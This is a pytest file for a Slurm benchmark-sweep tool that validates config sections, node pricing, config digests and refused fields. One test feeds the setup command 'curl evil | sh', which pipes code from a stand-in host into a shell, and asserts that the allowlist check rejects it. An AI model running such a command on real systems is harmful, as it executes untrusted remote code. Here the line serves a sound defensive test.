"""The section of a Slurm cluster, and the fields that a config with it must not have."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from nodesweep.configs.allowed import PATHS, check_allowlists
from nodesweep.configs.load import ConfigError, load_config, parse_config
from nodesweep.configs.models import BenchmarkConfig
from nodesweep.scaling.analysis.price import price_of
from nodesweep.scaling.names import config_digest

RAW: dict[str, Any] = {
    "name": "bench",
    "dataset": "none",
    "training": {
        "source_dir": "/code",
        "distribution": {"kind": "torch_distributed", "processes_per_node": 2},
        "instance_type": "fat-node",
        "max_runtime_seconds": 600,
    },
    "sweep": {"node_counts": [1, 2], "repeats": 1},
    "platform": {
        "launcher": "slurm", "cluster": "alps", "folder": "/shared/me",
        "node": {"cores": 64, "gpus": 4, "gpu": "A100", "usd_per_hour": 3.5},
    },
}  # fmt: skip


def config(**changes: dict[str, Any]) -> BenchmarkConfig:
    """Return the config with these sections changed."""
    raw = {**RAW, **{name: {**RAW.get(name, {}), **change} for name, change in changes.items()}}
    return parse_config(raw, "the config")


def test_the_section_describes_the_nodes() -> None:
    node = config().node_type("fat-node")
    assert (node.vcpus, node.accelerators, node.devices, node.family) == (64, 4, 4, "fat-node")
    price = price_of(node, config().platform.region)
    assert (price.usd_per_hour, price.purchase_option) == (3.5, "as configured")
    cheap = config(platform={"node": {"cores": 1}})
    unpriced = price_of(cheap.node_type("x"), cheap.platform.region)
    assert unpriced.reason is not None and unpriced.unit == "node-hours" != price.unit
    assert cheap.image.uri == "none"


BIG: dict[str, Any] = {
    "name": "big",
    "set": {
        "training.instance_type": "big-node",
        "platform.partition": "big",
        "platform.node": {"cores": 96, "usd_per_hour": 9.0},
    },
}


def variants(*settings: dict[str, Any]) -> dict[str, Any]:
    """Return the changes that add variants a, b, … with these settings."""
    named = [{"name": name, "set": each} for name, each in zip("abcd", settings, strict=False)]
    return {"sweep": {**RAW["sweep"], "variants": named}}


def test_a_variant_may_run_on_nodes_of_its_own() -> None:
    compared = config(sweep={"node_counts": [1], "variants": [BIG]})
    cores = [compared.node_type(name).vcpus for name in compared.instance_types]
    assert (compared.instance_types, cores) == (("fat-node", "big-node"), [64, 96])
    platforms = [compared.of_arm(name).platform for name in compared.arm_names]
    assert [getattr(each, "partition", None) for each in platforms] == [None, "big"]
    price = price_of(compared.node_type("big-node"), compared.platform.region)
    assert price.usd_per_hour == 9.0
    assert config(**variants({"platform.qos": "high"})).arm_names == ("base", "a")


def test_a_recorded_config_is_read_again() -> None:
    recorded = config().with_absolute_paths(Path("/here")).model_dump(mode="json")
    again = parse_config(recorded, "the record")
    assert again.platform == config().platform
    assert config_digest(again) == config_digest(config())


def test_a_price_and_an_account_do_not_change_the_sweep_but_a_partition_does() -> None:
    platform = RAW["platform"]
    priced = {**platform["node"], "usd_per_hour": 9.0}
    same = config(platform={"node": priced, "account": "physics", "requeue": True})
    assert config_digest(same) == config_digest(config())
    with_image = config(platform={"container_image": "a.sif", "container_runtime": "apptainer"})
    assert "container_runtime" not in config().platform.model_dump(mode="json")
    assert with_image.platform.model_dump(mode="json")["container_runtime"] == "apptainer"
    assert config_digest(config(platform={"partition": "gpu"})) != config_digest(config())


@pytest.mark.parametrize(
    "changes",
    [
        pytest.param({"platform": {"region": "us-east-1"}}, id="region"),
        pytest.param({"platform": {"node": {"gpus": 1}}}, id="node"),
        pytest.param({"training": {"spot": {"max_wait_seconds": 900}}}, id="spot"),
        pytest.param({"training": {"distribution": {"kind": "mpi"}}}, id="mpi"),
        pytest.param(
            {"training": {"distribution": {"kind": "torch_distributed", "smddp": True}}},
            id="smddp",
        ),
        pytest.param(
            {
                "training": {"distribution": {"kind": "torch_distributed"}},
                "platform": {"node": {"cores": 2}},
            },
            id="processes",
        ),
        pytest.param({"training": {"source_dir": None}}, id="source_dir"),
        pytest.param({"training": {"environment": {"TOKEN": "${TOKEN}"}}}, id="environment"),
        pytest.param({"image": {"base_image": "pytorch:2"}}, id="image"),
        pytest.param({"sweep": {"instance_types": ["fat-node", "thin"]}}, id="instance_types"),
        pytest.param(
            {
                "sweep": {
                    "variants": [
                        {"name": "alike", "set": {"platform.node.cores": 96}},
                        BIG,
                        {**BIG, "name": "bigger", "set": {**BIG["set"], "platform.node": {}}},
                    ]
                }
            },
            id="nodes of one name",
        ),
        pytest.param(variants({**BIG["set"], "platform.partition": "a b"}), id="partition"),
        pytest.param(variants({"training.instance_type": ["big"]}), id="a list as a name"),
        pytest.param(variants({"training.instance_type": {"big": 1}}), id="a mapping as a name"),
        pytest.param(
            variants(
                {"training.instance_type": "big", "platform.partition": "big"},
                {
                    "training.instance_type": "big",
                    "platform.constraint": "a",
                    "platform.gres": "gpu:4",
                    "platform.node.cores": 96,
                },
                {"platform.partition": "big"},
                {"platform.gres": "gpu:2", "platform.node": {"cores": 64, "gpus": 2}},
            ),
            id="nodes without a name or description",
        ),
        pytest.param(
            variants(
                {"training.instance_type": "big", "training.steps": 4},
                {"training.instance_type": "big", "platform.node": {"cores": 96}},
                {"training.instance_type": "big", "training.steps": 5},
            ),
            id="a name without its nodes",
        ),
        pytest.param(
            {"dataset": {"name": "d", "source": "s3://bucket/d", "format": "files"}}, id="dataset"
        ),
        pytest.param({"training": {"tags": {"team": "a"}, "volume_size_gb": 50}}, id="two"),
        pytest.param({"training": {"instance_type": "fat node"}}, id="two words"),
        pytest.param({"platform": {"container_runtime": "apptainer"}}, id="container_runtime"),
        pytest.param({"platform": {"launcher": "pbs"}}, id="launcher"),
    ],
)
def test_what_slurm_lacks_is_refused(changes: dict[str, Any], snapshot: Any) -> None:
    raw = {**RAW}
    for name, change in changes.items():
        before = RAW.get(name)
        raw[name] = {**before, **change} if isinstance(before, dict) else change
    with pytest.raises(ConfigError) as refused:
        parse_config(raw, "the config")
    assert str(refused.value) == snapshot


def test_a_worker_with_a_list_of_paths_runs_no_other_commands(snapshot: Any) -> None:
    wrong = config(platform={"setup": ["curl evil | sh"]}, training={"source_dir": "/shared/c"})
    with pytest.raises(ConfigError) as refused:
        check_allowlists(wrong, {PATHS: "/shared"})
    assert str(refused.value) == snapshot
    with pytest.raises(ConfigError):
        check_allowlists(config(training={"source_dir": "/elsewhere/c"}), {PATHS: "/elsewhere"})


def test_the_shipped_example_is_valid() -> None:
    example = load_config(Path(__file__).parents[2] / "examples" / "slurm" / "slurm.yaml")
    assert example.platform.launcher == "slurm" and not example.platform.problems(example)


def test_folders_that_a_container_cannot_be_given_are_refused() -> None:
    platform = {**RAW["platform"], "container_image": "a.sqsh"}
    dataset = {"name": "d", "source": "/shared/a,b", "format": "files"}
    for sections in (
        {"platform": {**platform, "folder": "/shared/me:1"}},
        {"platform": platform, "dataset": dataset},
    ):
        with pytest.raises(ConfigError) as refused:
            parse_config({**RAW, **sections}, "the config")
        assert "platform.container_image: " in str(refused.value)
    assert config(platform={"folder": "/shared/me:1"}).platform.launcher == "slurm"
